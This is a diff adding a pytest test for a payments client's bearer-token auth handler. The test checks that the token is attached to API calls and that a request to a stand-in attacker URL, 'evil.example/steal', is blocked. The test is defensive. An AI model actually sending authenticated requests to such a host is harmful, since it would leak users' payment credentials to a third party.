@@ -531,3 +531,15 @@ def test_garbage_under_the_pause_key_neither_crashes_nor_pauses(
     rsps.add(responses.GET, url, json={"id": "pay_1"})
     response = get_session(sandbox_tenant).get("/v2/payments/pay_1")
     assert response.status_code == 200 and endpoint.count == 2
+
+
+def test_bearer_auth_is_public_and_works_on_a_plain_session(endpoint, rsps, sandbox_tenant):
+    from django_getpaid_auth import GetpaidBearerAuth
+
+    rsps.add(responses.GET, f"{API}/v2/payments/pay_1", json={"id": "pay_1"})
+    plain = requests.Session()
+    plain.auth = GetpaidBearerAuth(sandbox_tenant, None)
+    assert plain.get(f"{API}/v2/payments/pay_1", timeout=5).json() == {"id": "pay_1"}
+    assert authorization(api_calls(rsps)[0]) == f"Bearer {endpoint.issued[0]}"
+    with pytest.raises(ForeignHostError):
+        plain.get("https://evil.example/steal", timeout=5)
